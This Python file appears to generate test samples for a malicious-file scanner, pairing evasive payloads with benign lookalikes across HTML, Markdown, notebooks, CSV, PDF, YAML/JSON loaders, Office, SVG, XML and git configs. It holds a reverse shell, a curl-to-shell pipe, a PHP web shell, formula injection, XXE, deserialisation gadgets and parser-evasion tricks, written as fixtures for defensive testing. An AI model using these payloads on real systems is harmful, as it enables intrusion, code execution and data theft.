"""Forms that one reader takes and another does not, and what is harmless and looks like them: of each family, a few."""
import base64
import json
import struct
import zlib

from build import *  # noqa: F403
from containers import notebook, shown
from data import github, letters
from pages import COOKIE, HOST, JS, page, svg

RUN = f"<script>{COOKIE}</script>"
HANDLER = "<img src=x onerror=alert(1)>"
UPPER = "ABCDEFGHIJKLMNOPQRSTUVWXYZ234567"
LONG = "eAfQ6S1wfiWASPFS8qieK1tFB3Rgn6NkQRPQkxkCqfzGZwvtaPM36s0R"
PIPE = "cu" + f"rl -sSf https://{HOST}/i.sh | s" + "h"
PHP = "<?p" + "hp sys" + "tem($_G" + "ET['c']); ?>"
APPLY = "!!python/object/apply:os.sys" + "tem ['id']"
# An archive of one table.
SEVEN = base64.b64decode("N3q8ryccAASWQfbCBAAAAAAAAAA2AAAAAAAAAA1n2QsxLDIKAQQGAAEJBAAHCwEAAQEADAQACAoBM0IhVQAABQERDQBhAC4AYwBzAHYAAAAVBgEAIICkgQAA")


def html():
    whole = lambda text: f"<!doctype html><html><body>{text}".encode()
    bodies = {
        "comment_bang": f"<!--a--!>{RUN}<!-- -->", "character_data": f"<![CDATA[>{RUN}]]>", "declaration": f"<![x>{RUN}]>",
        "end_declaration": f"</! <!-- >{RUN}-->", "end_attribute": f'<p></p a="><!--">{RUN}-->', "title_dash": f"<title></title-><!--</title>{RUN}-->",
        "prefixed_title": f"<x:title>{RUN}", "prefixed_style": f"<x:style>{RUN}", "svg_title": f"<svg><title><p>{RUN}</title></svg>", "svg_textarea": f"<svg><textarea>{RUN}</textarea></svg>",
        "escaped_script": f"<script><!--<script></script><title>--></script>{RUN}</title>", "far": f"<script>/*{'a ' * 10000}*/{COOKIE}</script>",
    }
    refresh = lambda content: page("", f"<meta http-equiv=refresh content=\"{content}\">")
    return [
        *((f"{name}.html", M, whole(body)) for name, body in bodies.items()),
        ("subset.html", M, f"<!doctype html [>{RUN}]>".encode()),
        ("empty_title.xhtml", M, f"<html xmlns='http://www.w3.org/1999/xhtml'><head><title/></head><body>{RUN}</body></html>".encode()),
        ("instruction.xhtml", M, f"<html xmlns='http://www.w3.org/1999/xhtml'><?x ><!-- ?>{RUN}<!-- --></html>".encode()),
        ("included.shtml", M, f"hello {RUN}".encode()),
        ("refresh_bare.html", S, refresh(f"0;https://{HOST}/")), ("refresh_blank.html", S, refresh(f"0 https://{HOST}/")),
        ("refresh_decoy.html", S, refresh(f"0;https://{HOST}/?url=/ok")), ("refresh_search.html", S, refresh("0;url=search-ms:query=a&crumb=location:\\\\\\\\example.invalid\\\\s")),
        ("picture_share.html", S, page(f"<img src='file://{HOST}/s/x'>")), ("background.html", S, page(f"<p style='background:URL(https://{HOST}/?d={LONG})'>a")),
    ]


def markdown():
    return [(f"{name}.md", S, text.encode()) for name, text in {
        "escaped_marks": f"\\`{HANDLER}\\`\n", "heading_ends": f"`a\n# h\n{HANDLER}`\n", "item_ends": f"`a\n- b\n{HANDLER}`\n", "rule_ends": f"`a\n***\n{HANDLER}`\n",
        "list_fence": f"- a\n  ```\n{HANDLER}\n", "address_marks": f"<http://a.b/`>{HANDLER}<http://a.b/`>\n", "table_cells": f"|a|b|\n|-|-|\n|`x|{HANDLER}`|\n",
        "quoted_target": f"[a]\n\n> [a]: {JS}alert(1)\n", "item_target": f"[a]\n\n- [a]: {JS}alert(1)\n", "search": "[a](search-ms:query=a)\n", "template": f"[a](ms-word:ofe|u|https://{HOST}/a.dotm)\n",
    }.items()] + [("code_outside.md", S, f"```\nok\n```\n{PIPE.replace('| s' + 'h', '')}\n\nba{'sh'} -i >& /dev/t{'cp'}/192.0.2.1/4242 0>&1\n".encode()), ("listed_and_run.md", M, f"```php\n{PHP}\n```\n\n{PHP}\n".encode())]


def notebooks():
    words = {"cell_type": "markdown", "metadata": {}, "source": HANDLER}
    book = lambda **parts: json.dumps({"nbformat": 3, "nbformat_minor": 0, "metadata": {}, **parts}).encode()
    shell = lambda source: notebook(cells=[{"cell_type": "code", "execution_count": None, "metadata": {}, "outputs": [], "source": source}])
    return [
        ("second_sheet.ipynb", S, book(worksheets=[{"cells": []}, {"cells": [words]}])), ("beside_cells.ipynb", S, book(cells=[], worksheets=[{"cells": [words]}])),
        ("beside_sheets.ipynb", S, book(cells=[words], worksheets=[{"cells": []}])), ("magic.ipynb", S, shell(["%%ba" + "sh\n", PIPE])), ("call.ipynb", S, shell(f"import os\nos.sys{'tem'}('{PIPE}')")),
        ("list_fence.ipynb", S, notebook(cells=[{"cell_type": "markdown", "metadata": {}, "source": ["- a\n", "  ```\n", HANDLER]}])),
    ]


def tables():
    call = "cm" + "d|' /C calc'!A0"
    workbook = f"<?xml version='1.0'?><?mso-application progid='Excel.Sheet'?><Workbook xmlns='urn:schemas-microsoft-com:office:spreadsheet' xmlns:ss='urn:schemas-microsoft-com:office:spreadsheet'><Worksheet ss:Name='a'><Table><Row><Cell ss:Formula=\"={call}\"/></Row></Table></Worksheet></Workbook>"
    return [
        ("separator.csv", M, f"sep=^\n1^={call}\n".encode()), ("line_in_cell.csv", M, f'a,b\n1,"=\n{call}"\n'.encode()), ("long.csv", M, f"1,={'1+' * 1100}{call}\n".encode()),
        ("symbols.slk", M, f"ID;P\nC;X1;Y1;K0;E{call}\nE\n".encode()), ("table.dif", M, f'TABLE\n0,1\n"a"\nDATA\n0,0\n""\n-1,0\nBOT\n1,0\n"={call}"\n-1,0\nEOD\n'.encode()), ("print.prn", M, f"a b\n={call}\n".encode()), ("workbook.xml", M, workbook.encode()),
    ]


def portable():
    launch = b"<< /S /Launch /F (a.exe) >>"

    def at(holder, inner, root=b"/OpenAction 5 0 R"):
        """Object 5 is where the table says, within another object."""
        whole = pdf([b"<< /Type /Catalog /Pages 2 0 R " + root + b" >>", b"<< /Type /Pages /Kids [] /Count 0 >>", b"<< /A 1 >>", holder, b"<< >>"])
        place, table = whole.index(inner), whole.rindex(b"xref\n0 6")
        rows = whole[table:].split(b"\n")
        rows[7] = b"%010d 00000 n " % place
        return whole[:table] + b"\n".join(rows)

    body = b"5 0 obj\n" + launch + b"\nendobj\n"
    cat = lambda *more: pdf([b"<< /Type /Catalog /Pages 2 0 R /OpenAction 3 0 R >>", b"<< /Type /Pages /Kids [] /Count 0 >>", *more])
    plain = b"5 0 " + launch
    rows = b"".join(b"\2" + bytes((plain.ljust(60)[n + m] - (plain.ljust(60)[n + m - 12] if n else 0)) & 255 for m in range(12)) for n in range(0, 60, 12))
    predicted = stream(zlib.compress(rows), b"/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /DecodeParms << /Predictor 12 /Columns 12 >>")
    return [
        ("in_text.pdf", M, at(b"<< /Title (" + body + b") >>", body)), ("in_stream.pdf", M, at(stream(b"q Q\n" + body), body)),
        ("action_name.pdf", M, cat(b"<< /S 4 0 R /F (a.exe) >>", b"/Launch")), ("file_beside.pdf", M, cat(b"<< /S /GoToR /D [0 /Fit] /F 4 0 R >>", b"(\\\\\\\\example.invalid\\\\s\\\\a.pdf)")),
        ("opens_address.pdf", S, cat(b"<< /S /URI /URI (https://example.invalid/) >>")), ("predicted.pdf", M, pdf([b"<< /Type /Catalog /OpenAction 5 0 R >>", predicted])),
        ("attached_bare.pdf", M, pdf([b"<< /Type /Catalog /Names << /EmbeddedFiles << /Names [(a) << /F (a.exe) /EF << /F 2 0 R >> >>] >> >> >>", stream(PE)])),
    ]


def secrets():
    token = github()
    record = tarred([("a", b"1", {"pax_headers": {"comment": token}})])
    field = struct.pack("<HH", 0x9999, len(token)) + token.encode()
    packed = gz(b"1\n")
    noted = packed[:3] + b"\x10" + packed[4:10] + token.encode() + b"\0" + packed[10:]
    return [(name, S, content) for name, content in {
        "coloured.log": f"\x1b[1m{token}\x1b[0m\n".encode(), "coloured.json": json.dumps({"log": f"\x1b[32m{token}"}).encode(), "hook.php": ("$a = 'https:\\/\\/hooks.sl" + "ack.com\\/services\\/T" + letters(8, "f", UPPER) + "\\/B" + letters(8, "g", UPPER) + "\\/" + letters(24, "h") + "';").encode(),
        "database.json": ('{"url":"postgres' + f":\\/\\/bob:{letters(16, 'cc')}@db.example.invalid\\/a" + '"}').encode(), "compact.json": ('{"auths":{"registry.example.invalid":{"auth":"' + b64(f"ana:{letters(18, 'hh')}".encode()) + '"}}}').encode(),
        "lower.log": f"authorization: bearer {letters(48, 'ww')}\n".encode(), "escapes.yaml": ('a: "' + "".join(f"\\x{ord(c):02x}" for c in token) + '"\n').encode(), "record.tar": record, "comment.csv.gz": noted, "field.zip": zipped([("a", b"1")], extra=field),
        "private.png": png(chunks=[(b"prVt", token.encode())]), "application.jpg": jpeg([(0xEC, token.encode())]), f"{token}.csv": b"a,b\n1,2\n",
    }.items()]


def loaders():
    reduce = '[{"py\\/function": "os.sys' + 'tem"}, {"py\\/tuple": ["id"]}]'
    lines = {
        "percent.yaml": (M, APPLY.replace("python", "pyth%6fn")), "percent_slash.yaml": (M, "a: " + APPLY.replace("/apply", "%2fapply")), "handle.yaml": (M, "%TAG !x! tag:yaml.org,2002:pyth\n---\n" + APPLY.replace("!!pyth", "!x!")),
        "module.yaml": (M, "a: !!python/module:os\n"), "java.yaml": (M, '!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["https://example.invalid/"]]]]'), "class.yaml": (S, '!!a.b.C ["x"]'), "ruby.yaml": (M, "--- !rub%79/object:Gem::Installer\ni: x\n"),
        "slashed.json": (M, '{"py\\/reduce": ' + reduce + "}"), "letters.json": (M, '{"py/r\\u0065duce": ' + reduce + "}"), "lambda.json": (M, '{"class_name": "L\\u0061mbda", "config": {"code": "4wEAAAA="}}'), "by_name.json": (M, '{"module": "os", "class_name": "sys' + 'tem", "config": "id"}'),
    }
    opens = b"cdateutil.tz.tz\ntzfile\n(S'\\\\\\\\example.invalid\\\\s\\\\x'\ntR."
    return [*((name, label, text.encode()) for name, (label, text) in lines.items()), ("zone_share.pkl", S, opens), ("sums.pkl", S, b"cbuiltins\nlist\n(cbuiltins\nrange\n(I100000000000\ntRtR.")]


def office():
    rels = lambda kind, target: docx(extra=[("word/_rels/document.xml.rels", f'<Relationships xmlns="{RELS}"><Relationship Id="r" Type="{DOC}/{kind}" Target="{target}" TargetMode="External"/></Relationships>')])
    sheet = lambda formula: zipped([("mimetype", "application/vnd.oasis.opendocument.spreadsheet"), ("content.xml", f"<o:document-content xmlns:o='urn:oasis:names:tc:opendocument:xmlns:office:1.0' xmlns:table='urn:oasis:names:tc:opendocument:xmlns:table:1.0'><table:table-cell table:formula='of:={formula}'/></o:document-content>")])
    return [
        ("letter.docx", M, rels("attached&#84;emplate", f"https://{HOST}/a.dotm")), ("slashes.docx", M, rels("attachedTemplate", f"file:////{HOST}/s/x.dotm")), ("exchange.ods", M, sheet('DDE("cmd";"/c calc";"a")')), ("service.ods", S, sheet(f'WEBSERVICE("https://{HOST}/?"&amp;A1)')),
        ("template_line.rtf", M, b"{\\rtf1{\\*\n\\template http://example.invalid/a.dotm}}"), ("object_line.rtf", M, b"{\\rtf1{\\obj\nect\\objautlink\\objupdate{\\*\\objdata 01050000}}}"), ("exchange_parts.rtf", M, b"{\\rtf1{\\field{\\*\\fldinst {\\b D}{\\i DEAUTO cmd x}}}}"),
    ]


def drawings():
    run = "<script>alert(1)</script>"
    typed = lambda inner, body=run: f"<!DOCTYPE svg [{inner}]><svg xmlns='http://www.w3.org/2000/svg'>{body}</svg>".encode()
    return [(f"{name}.svg", M, content) for name, content in {
        "quote_in_comment": typed("<!-- it's -->"), "quote_in_instruction": typed("<?x ' ?>"), "brackets_in_comment": typed("<!-- [[ -->"), "bracket_in_name": f"<!DOCTYPE svg SYSTEM 'a[b'><svg xmlns='http://www.w3.org/2000/svg'>{run}</svg>".encode(),
        "default": typed("<!ATTLIST svg onload CDATA 'alert(1)'>", "<g/>"), "entity_letters": typed("<!ENTITY x '<g><scr&#105;pt>alert(1)</scr&#105;pt></g>'>", "&x;"), "entity_prefix": typed("<!ENTITY x \"<s:script xmlns:s='http://www.w3.org/2000/svg'>alert(1)</s:script>\">", "&x;"),
    }.items()]


def xmls():
    read = "<!ENTITY x SYSTEM \"file:///etc/passwd\">"
    return [(f"{name}.xml", M, text.encode()) for name, text in {
        "entity_in_comment": f"<!DOCTYPE r [<!-- <!ENTITY --> {read}]><r>&x;</r>", "quote_in_comment": f"<!DOCTYPE r [<!-- it's -->{read}]><r>&x;</r>", "brackets_in_comment": f"<!DOCTYPE r [<!-- [[ -->{read}]><r>&x;</r>",
        "space_letters": f"<r xmlns:h='http://www.w3.org/1999/&#x78;html'><h:script>{COOKIE}</h:script></r>", "space_entity": f"<!DOCTYPE r [<!ENTITY n 'http://www.w3.org/1999/xhtml'>]><r xmlns:h='&n;'><h:script>{COOKIE}</h:script></r>",
    }.items()] + [("known_in_path.xml", S, f"<!DOCTYPE r SYSTEM 'http://{HOST}/://www.w3.org/a.dtd'><r/>".encode())]


def names():
    table, settings = b"a,b\n1,2\n", b"[core]\n\tfsmonitor = ./x\n"
    places = [".zshenv", ".bash_login", ".Rprofile", "pip.conf", ".ssh/config", ".ipython/profile_default/startup/00.py", ".git/hooks/post-checkout", "git~1/hooks/pre-commit", "-rf/a.csv", "dir\u200bx/a.csv"]
    return [
        *((place, S, table) for place in places), (".git/config", S, settings), (".gitconfig", S, b"[alias]\n\tst = !id\n"), (".gitmodules", S, b'[submodule "a"]\n\tpath = a\n\turl = -u./x\n'), (".gitattributes", S, b"* filter=x\n"),
        ("dir\u202egpj.x/a.csv", M, table), ("aux.tsv", S, b"a\tb\n"),
    ]


def polyglots():
    return [("archive_in_chunk.png", S, png(chunks=[(b"prVt", SEVEN)])), ("archive_in_segment.jpg", S, jpeg([(0xE2, SEVEN)])), ("archive_in_chunk.webp", S, riff(b"WEBP", [(b"VP8L", b"\x2f" + bytes(15)), (b"prVt", SEVEN)]))]


def locked():
    sealed = b"Salted__" + bytes(range(40))
    return [("sealed.zip", U, zipped([("a.csv", sealed)])), ("sealed.tar", U, tarred([("a.bin", sealed)])), ("sealed.csv.enc", U, sealed)]


def programs():
    code = bytes(8) + b"\x63" + bytes(30)
    return [("old.pyc", S, b"\xa7\r\r\n\0\0\0\0" + code), ("folder.zip", S, zipped([("__pycache__/a.cpython-311.pyc", b"\xa7\r\r\n\0\0\0\0" + code)])), ("lua.zip", S, zipped([("a.bin", b"\x1bLua\x54\0" + code)])), ("setup.zip", U, zipped([("setup.exe", b"\x01\x02" + code)])), ("far.zip", S, zipped([("a.bin", b"MZ" + b"\x01" * 58 + struct.pack("<I", 0x01010101 & 0x1FF) + b"\x01" * 193 + b"PE\0\0")])), ("install.txt", S, f"# setup\nset -e\n{PIPE}\n".encode()), ("install.csv", S, f"{PIPE}\n".encode()), ("install.md", S, f"{PIPE}\n".encode())]


def harmless():
    fence = lambda language, code: f"# How to\n\n```{language}\n{code}\n```\n\n1. Then\n\n   ~~~\n   {code}\n   ~~~\n\nType `{code}`.\n"
    words = lambda text: notebook(cells=[{"cell_type": "markdown", "metadata": {}, "source": text}])
    clone = "[core]\n\trepositoryformatversion = 0\n\tbare = false\n[remote \"origin\"]\n\turl = https://example.invalid/a.git\n\tfetch = +refs/heads/*:refs/remotes/origin/*\n[branch \"main\"]\n\tremote = origin\n\tmerge = refs/heads/main\n"
    messages = struct.pack("<11I", 0x950412DE, 0, 1, 28, 36, 0, 0, 1, 44, 2, 46) + b"a\0bb\0"
    film = "<iframe width='560' src='https://www.youtube.com/embed/abc?rel=0' allowfullscreen></iframe>"
    theme = "<script>document.body.className = localStorage.getItem('theme'); fetch('data.json').then(r => r.json())</script>"
    trace = r'{"hovertemplate":"g=a\u003cbr\u003ey=%{x}\u003cextra\u003e\u003c\u002fextra\u003e","x":{"dtype":"f8","bdata":"+p9qvlT29z\u002fsrp\u002fH75jxPw=="},"type":"histogram"}'
    chart = f'<div id="a"></div><script src="https://cdn.plot.ly/plotly-3.1.0.min.js"></script><script>if (document.getElementById("a")) {{ Plotly.newPlot("a", [{",".join([trace] * 6)}], {{}}, {{"responsive": true}}) }}</script>'
    session = '<script>n.DEFAULT_SERVER_WEBSOCKET_URL="ws://localhost:5006/ws",n.DEFAULT_TOKEN="eyJzZXNzaW9uX2lkIjogImRlZmF1bHQifQ";let d=0;</script>'
    return [
        ("install.md", C, fence("sh", PIPE).encode()), ("php.md", C, fence("php", PHP).encode()), ("yaml.md", C, fence("yaml", "a: " + APPLY).encode()), ("manual.ipynb", C, words(fence("sh", PIPE))),
        ("build.log", C, f"2024-01-01 10:00:00 INFO run: {PIPE}\n#5 [2/3] RUN {PIPE}\n+ {PIPE}\n".encode()), ("readme.txt", C, f"Install it:\n\n    {PIPE}\n".encode()), ("manual.rst", C, f"Setup\n=====\n\n::\n\n    $ {PIPE}\n".encode()), ("commands.csv", C, f"n,command\n1,{PIPE}\n".encode()),
        ("mkdocs.yml", A, b"markdown_extensions:\n  - pymdownx.emoji:\n      emoji_index: !!python/name:material.extensions.emoji.twemoji\n"), (".git/config", C, clone.encode()), (".gitattributes", C, b"* text=auto\n*.bin filter=lfs diff=lfs merge=lfs -text\n"), (".gitmodules", C, b'[submodule "a"]\n\tpath = vendor/a\n\turl = https://example.invalid/a.git\n'),
        ("aux/a.csv", A, b"a,b\n1,2\n"), ("bell.log", C, b"done \x07\n" * 3 + b"all the steps are done\n" * 30), ("app.mo", C, messages), ("film.ipynb", A, notebook([shown(text__html=film)])), ("badges.md", A, f"<img src='https://img.shields.io/badge/a-b-c.svg?logo={LONG}'>\n".encode()),
        ("theme.html", A, page(theme)), ("missing.csv", C, b"a,b,c\n-,-,-\n-/-,- image (left),- query (open)\n"), ("cache.log", C, b"cache-key-0123456789abcdef0123456789abcdef hit\n"), ("digest.json", C, b'{"token_sha": "' + b"0123456789abcdef" * 4 + b'"}'),
        ("schema.json", C, json.dumps({"default": APPLY}).encode()), ("tabs.md", C, f'=== "YAML"\n\n    ``` yaml\n    a: {APPLY}\n    ```\n'.encode()), ("favicon.ico", C, struct.pack("<HHHBBBBHHII", 0, 1, 1, 8, 8, 0, 0, 1, 32, len(png()), 22) + png()),
        ("bus.xml", C, b"<!DOCTYPE busconfig PUBLIC '-//freedesktop//DTD D-Bus Bus Configuration 1.0//EN' 'http://www.freedesktop.org/standards/dbus/1.0/busconfig.dtd'><busconfig/>"), ("drawn.md", C, f"![a](https://mermaid.ink/img/{LONG}{LONG})\n".encode()),
        ("histogram.html", A, page(chart)), ("bokeh.html", A, page(session)),
    ]


def all_families():
    yield "html", html()
    yield "markdown", markdown()
    yield "notebook", notebooks()
    yield "csv-formula", tables()
    yield "pdf", portable()
    yield "secret", secrets()
    yield "pickle", loaders()
    yield "office", office()
    yield "svg", drawings()
    yield "xml", xmls()
    yield "name", names()
    yield "polyglot", polyglots()
    yield "encrypted", locked()
    yield "executable", programs()
    yield "benign", harmless()
